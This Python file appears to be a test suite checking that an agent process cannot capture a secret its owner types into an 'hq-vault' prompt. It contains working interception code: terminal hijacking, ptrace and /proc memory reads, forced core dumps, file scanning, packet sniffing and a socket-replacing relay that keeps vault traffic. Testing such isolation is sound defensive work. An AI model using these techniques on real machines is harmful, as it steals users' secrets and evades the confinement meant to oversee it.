"""While the owner types a value into `hq-vault answer`, in the terminal that the agent was started from."""

import contextlib
import ctypes
import glob
import os
import pathlib
import resource
import signal
import socket
import struct
import subprocess
import threading

from attempts import AFTERWARDS, APART, CLEAN, Refused, attempt
from wire import VAULT, vault

KEYS = "keep what you type"
LIBC = ctypes.CDLL(None, use_errno=True)
PTRACE_SEIZE, PTRACE_ATTACH = 0x4206, 16
SYS_PIDFD_OPEN, SYS_PIDFD_GETFD = 434, 438


def libc(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def processes(word):
    """The processes whose command line has this in it."""
    for place in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            if word in pathlib.Path(place).read_bytes():
                yield int(place.split("/")[2])
        except OSError:
            continue


class Prompt:
    """The owner at the prompt. Afterwards he is back at his shell, whatever happened."""

    count = 0

    def __init__(self, agent):
        self.agent = agent

    def __enter__(self):
        Prompt.count += 1
        status, entry = vault("POST", "/v1/entries", {"path": f"typed/{Prompt.count}"})
        assert status in (200, 201), (status, entry)
        refusal = (f"/v1/entries/{entry['id']}:refuse", {"submit": entry["submit"]})
        AFTERWARDS.append(lambda _: vault("POST", *refusal))
        begun = self.agent.owner("begin", line=f"hq-vault answer {entry['code']}", until="Value (hidden")
        self.tty, self.shell = begun["tty"], begun["shell"]
        self.pid = next(processes(b"hq-vault\0answer"))
        self.over = False
        return self

    def type(self):
        """The owner types the value. Where the prompt did not take it he is still there, until the end."""
        self.over = self.agent.owner("finish", text="VALUE", settle=False)["done"]

    def __exit__(self, *_):
        if not self.over:
            self.agent.owner("settle")


def steal(prompt, fd):
    """Reads `fd`, which never waits, as fast as may be while the owner types."""
    got, why, over = [], [], threading.Event()

    def read():
        while not over.is_set():
            try:
                got.append(os.read(fd, 4096))
            except BlockingIOError:
                continue
            except OSError as error:
                why.append(error)
                return

    thread = threading.Thread(target=read)
    thread.start()
    prompt.type()
    over.set()
    thread.join()
    if not b"".join(got).strip():
        raise why[0] if why else Refused("nothing came")
    return b"".join(got)


def in_child(body):
    """Runs `body` in a child; what it returns, or what it failed with."""
    back, out = os.pipe()
    pid = os.fork()
    if pid == 0:
        # Whatever happens in here ends here. Ctrl-C is for others, also where we hold the foreground.
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        text = b"-it was ended"
        try:
            text = b"+" + body()
        except (OSError, Refused) as why:
            text = b"-" + str(getattr(why, "strerror", "") or why).encode()
        finally:
            os.write(out, text[:60_000])
            os._exit(0)
    os.close(out)
    with os.fdopen(back, "rb") as said:
        text = said.read()
    os.waitpid(pid, 0)
    if text[:1] != b"+":
        raise Refused(text[1:].decode())
    return text[1:]


@attempt("read the terminal from the background")
def background(agent):
    with Prompt(agent) as prompt:
        signal.signal(signal.SIGTTIN, signal.SIG_IGN)
        return steal(prompt, os.open("/dev/tty", os.O_RDONLY | os.O_NONBLOCK))


@attempt("read the terminal on the descriptor that the shell left open")
def inherited(agent):
    with Prompt(agent) as prompt:
        signal.signal(signal.SIGTTIN, signal.SIG_IGN)
        return steal(prompt, os.open("/proc/self/fd/0", os.O_RDONLY | os.O_NONBLOCK))


@attempt("take the foreground of the terminal and read", KEYS, CLEAN)
def foreground(agent):
    def body():
        signal.signal(signal.SIGTTIN, signal.SIG_IGN)
        signal.signal(signal.SIGTTOU, signal.SIG_IGN)
        os.setpgid(0, 0)
        tty = os.open("/dev/tty", os.O_RDWR | os.O_NONBLOCK)
        os.tcsetpgrp(tty, os.getpgrp())
        return steal(prompt, tty)

    with Prompt(agent) as prompt:
        return in_child(body)


@attempt("read the terminal by its name from another session", KEYS, CLEAN)
def other_session(agent):
    def body():
        os.setsid()
        return steal(prompt, os.open(prompt.tty, os.O_RDONLY | os.O_NOCTTY | os.O_NONBLOCK))

    with Prompt(agent) as prompt:
        return in_child(body)


@attempt("wait in a read of the terminal, from another session, before the prompt comes", KEYS, CLEAN)
def first_in_line(agent):
    back, out = os.pipe()
    tty = os.readlink(f"/proc/{os.getppid()}/fd/0")
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            fd = os.open(tty, os.O_RDONLY | os.O_NOCTTY)
            while more := os.read(fd, 4096):
                os.write(out, more)
        finally:
            os._exit(0)
    os.close(out)
    try:
        with Prompt(agent) as prompt:
            prompt.type()
            os.kill(pid, signal.SIGKILL)
    finally:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    with os.fdopen(back, "rb") as said:
        return said.read()


@attempt("turn the echo on and look for a screen to read")
def echo(agent):
    with Prompt(agent) as prompt:
        signal.signal(signal.SIGTTOU, signal.SIG_IGN)
        subprocess.run(["stty", "-F", prompt.tty, "echo"], capture_output=True, check=False)
        prompt.type()
        screens = [pathlib.Path(place) for place in glob.glob("/dev/vcs*") + glob.glob("/dev/fb*")]
        if not screens:
            raise Refused("no screen can be read from here")
        return b"".join(screen.read_bytes() for screen in screens)


def half_typed(look):
    """An attempt that looks at the prompt's process when half of the value is typed, and again at its end."""

    def run(agent):
        with Prompt(agent) as prompt:
            agent.owner("keys", text="canary-4f1d-hostile")
            return look(prompt.pid)

    return run


def memory(pid):
    """All that can be read of a process's memory."""
    found = b""
    maps = pathlib.Path(f"/proc/{pid}/maps").read_text().splitlines()
    with open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            low, high = (int(end, 16) for end in line.split()[0].split("-"))
            if "r" in line.split()[1] and high - low < 1 << 26:
                try:
                    mem.seek(low)
                    found += mem.read(high - low)
                except (OSError, ValueError, OverflowError):
                    continue
    return found


def first_page(pid):
    return int(pathlib.Path(f"/proc/{pid}/maps").read_text().split("-")[0], 16)


def tools_work():
    """What is refused of our program works on another one, so that the refusals say something."""
    words = ["python3", "-c", "needle = 'in the ' + 'haystack'; print(flush=True); input()"]
    child = subprocess.Popen(words, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
    child.stdout.readline()
    assert b"in the haystack" in memory(child.pid)
    assert vm_read(child.pid, first_page(child.pid)) and environ(child.pid) and seize(child.pid)
    child.kill()
    child.wait()


def seize(pid):
    libc(LIBC.ptrace(PTRACE_SEIZE, pid, None, None))
    return True


def trace(pid):
    libc(LIBC.ptrace(PTRACE_ATTACH, pid, None, None))
    return True


def vm_read(pid, place=0x10000):
    buffer = ctypes.create_string_buffer(64)
    ours, theirs = (struct.pack("QQ", address, 64) for address in (ctypes.addressof(buffer), place))
    libc(LIBC.process_vm_readv(pid, ours, 1, theirs, 1, 0))
    return True


def descriptor(pid):
    pidfd = libc(LIBC.syscall(SYS_PIDFD_OPEN, pid, 0))
    return bool(libc(LIBC.syscall(SYS_PIDFD_GETFD, pidfd, 0, 0)) >= 0)


def environ(pid):
    return pathlib.Path(f"/proc/{pid}/environ").read_bytes() and True


def descriptors(pid):
    return any(os.readlink(place) for place in glob.glob(f"/proc/{pid}/fd/*")) or bool(os.listdir(f"/proc/{pid}/fd"))


for words, look in [
    ("read the prompt's memory (/proc/PID/mem)", lambda pid: memory(pid) and True),
    ("read the prompt's memory (process_vm_readv)", vm_read),
    ("trace the prompt (PTRACE_ATTACH)", trace),
    ("trace the prompt (PTRACE_SEIZE)", seize),
    ("read the prompt's environment", environ),
    ("look at the prompt's open files", descriptors),
    ("take a descriptor of the prompt (pidfd_getfd)", descriptor),
]:
    attempt(words)(half_typed(look))


@attempt("make the prompt dump core")
def core(agent):
    before = set(glob.glob(os.path.expanduser("~/**/core*"), recursive=True))
    with Prompt(agent) as prompt:
        resource.setrlimit(resource.RLIMIT_CORE, (resource.getrlimit(resource.RLIMIT_CORE)[1],) * 2)
        agent.owner("keys", text="canary-4f1d-hostile")
        try:
            resource.prlimit(prompt.pid, resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except OSError:
            pass
        os.kill(prompt.pid, signal.SIGABRT)
    made = set(glob.glob(os.path.expanduser("~/**/core*"), recursive=True)) - before
    if not made:
        raise Refused("no core file")
    return b"".join(pathlib.Path(place).read_bytes() for place in made)


@attempt("search every file of the owner while and after it is typed")
def files(agent):
    def all_of_them():
        for root in (os.path.expanduser("~"), "/dev/shm", os.environ.get("TMPDIR", "/tmp")):
            for folder, _, names in os.walk(root):
                for name in names:
                    path = pathlib.Path(folder, name)
                    try:
                        if path.is_file() and path.stat().st_uid == os.getuid():
                            yield path.read_bytes()
                    except OSError:
                        continue

    with Prompt(agent) as prompt:
        agent.owner("keys", text="canary-4f1d-")
        during = b"".join(all_of_them())
        agent.owner("keys", text="\x15")
        prompt.type()
    return during + b"".join(all_of_them())


@attempt("listen on the network interface")
def listen(_):
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3)).close()
    return True


for words, look in [
    ("read the daemon's memory (/proc/PID/mem)", lambda pid: memory(pid) and True),
    ("read the daemon's memory (process_vm_readv)", vm_read),
    ("trace the daemon", trace),
    ("read the daemon's environment", environ),
    ("look at the daemon's open files", descriptors),
]:

    def of_the_daemon(_, look=look):
        return look(int((VAULT / "vault.pid").read_text().split()[0]))

    attempt(words)(of_the_daemon)


@attempt("put a listener of its own in the place of the vault's socket", "start a false vault", APART)
def false_socket(agent):
    """Passes everything on, and keeps it."""
    true, moved, got = VAULT / "vault.sock", VAULT / "vault.true", []

    def relay(one, other, keep):
        with contextlib.suppress(OSError):
            while data := one.recv(65536):
                got.extend([data] if keep else [])
                other.sendall(data)
            other.shutdown(socket.SHUT_WR)

    def serve():
        while True:
            try:
                client = listener.accept()[0]
            except OSError:
                return
            daemon = socket.socket(socket.AF_UNIX)
            daemon.connect(str(moved))
            for words in [(client, daemon, True), (daemon, client, False)]:
                threading.Thread(target=relay, args=words, daemon=True).start()

    os.rename(true, moved)
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(str(true))
    os.chmod(true, 0o600)
    listener.listen(16)
    threading.Thread(target=serve, daemon=True).start()
    try:
        with Prompt(agent) as prompt:
            prompt.type()
    finally:
        listener.close()
        os.unlink(true)
        os.rename(moved, true)
    if not got:
        raise Refused("nothing was sent there")
    return b"".join(got)
